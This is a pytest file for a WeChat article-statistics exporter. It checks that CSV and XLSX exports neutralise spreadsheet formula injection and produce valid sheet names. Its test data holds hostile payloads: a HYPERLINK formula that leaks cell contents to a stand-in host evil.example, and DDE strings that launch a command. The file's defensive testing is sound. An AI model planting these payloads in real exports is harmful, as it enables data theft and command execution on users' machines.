"""CSV/XLSX exports carry text from outside (series names from imported files, article titles from
WeChat): none of it may become a live formula in Excel/WPS, and no title may break the download."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from wxpub.models import StatArticle, StatArticleDaily
from wxpub.stats.exports import Column, Table, to_csv, to_xlsx

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_PAGE = ROOT / "tests" / "fixtures" / "import" / "binhai-2023-renwen-page-part1.txt"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
PAYLOADS = [LEAK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1",
            "＝1+1"]




def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formulas(xlsx: bytes) -> list[str]:
    """Every formula the workbook holds, straight from its sheet XML."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}
    return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]


def test_library_export_keeps_a_hostile_series_name_as_text(cli, editor_client, runtime):
    from library_helpers import make_series
    make_series(runtime, LEAK, ["人文环境"])
    assert cli("import", str(SAMPLE_PAGE), "--series", LEAK).exit_code == 0

    xlsx = editor_client.get("/dashboard/export/library.xlsx")
    assert xlsx.status_code == 200
    assert formulas(xlsx.data) == []
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "'" + LEAK
    assert sheet["C2"].value == 0 and sheet["D2"].value == 5  # counts are still numbers

    rows = csv_rows(editor_client.get("/dashboard/export/library.csv").data)
    assert rows[1][0] == "'" + LEAK and rows[1][3] == "5"


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    table = Table("t", "测试", [Column("title", "标题"), Column("reads", "阅读人数", "int"),
                                Column("change", "变化")],
                  [{"title": text, "reads": -5, "change": -3} for text in PAYLOADS]
                  + [{"title": "正常标题 -2", "reads": 7, "change": "2+3"}])
    rows = csv_rows(to_csv(table))[1:]
    assert [r[0] for r in rows[:-1]] == ["'" + text for text in PAYLOADS]
    assert rows[-1] == ["正常标题 -2", "7", "2+3"]
    assert all(r[1] == "-5" and r[2] == "-3" for r in rows[:-1])  # real negative figures

    xlsx = to_xlsx(table)
    assert formulas(xlsx) == []
    sheet = load_workbook(io.BytesIO(xlsx)).active
    for row, text in zip(sheet.iter_rows(min_row=2), PAYLOADS):
        assert row[0].data_type == "s" and row[0].value == "'" + text
        assert row[1].data_type == "n" and row[1].value == -5
        assert row[2].data_type == "n" and row[2].value == -3


def test_daily_xlsx_of_an_article_whose_title_excel_forbids_as_a_sheet_name(runtime, editor_client):
    title = "=问/答\\：办事指南?*[第1期]:一图读懂营商环境新政策全文解读"
    with runtime.db.session() as s:
        s.add(StatArticle(msgid="2247490098_1", msg_data_id="2247490098", idx=1, title=title,
                          publish_date=date(2026, 3, 1), publish_type=1, read_user=-1))
        s.add(StatArticleDaily(msgid="2247490098_1", stat_date=date(2026, 3, 1), read_user=12))
        s.commit()
    response = editor_client.get("/dashboard/export/daily.xlsx?msgid=2247490098_1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert not set("/\\?*:[]") & set(sheet.title) and 0 < len(sheet.title) <= 31
    assert sheet.title.startswith("《=问／答＼：办事指南？＊［第1期］")
    assert sheet["A2"].value.date() == date(2026, 3, 1) and sheet["B2"].value == 12

    articles = editor_client.get("/dashboard/export/articles.xlsx")
    assert articles.status_code == 200 and formulas(articles.data) == []
    rows = list(load_workbook(io.BytesIO(articles.data)).active.values)
    assert rows[1][1] == "'" + title and rows[1][4] == -1


def test_sheet_names_are_valid_and_unique():
    from wxpub.stats.exports import sheet_title

    taken = []
    for title in ["History", "'引号'", "《甲》" + "长" * 40, "《甲》" + "长" * 40 + "二", "", "a/b"]:
        name = sheet_title(title, taken)
        assert name and len(name.encode("utf-16-le")) // 2 <= 31 and not set("/\\?*:[]") & set(name)
        assert name.lower() not in {t.lower() for t in taken} and name.lower() != "history"
        assert not name.startswith("'") and not name.endswith("'")
        taken.append(name)
    assert taken[-1] == "a／b"
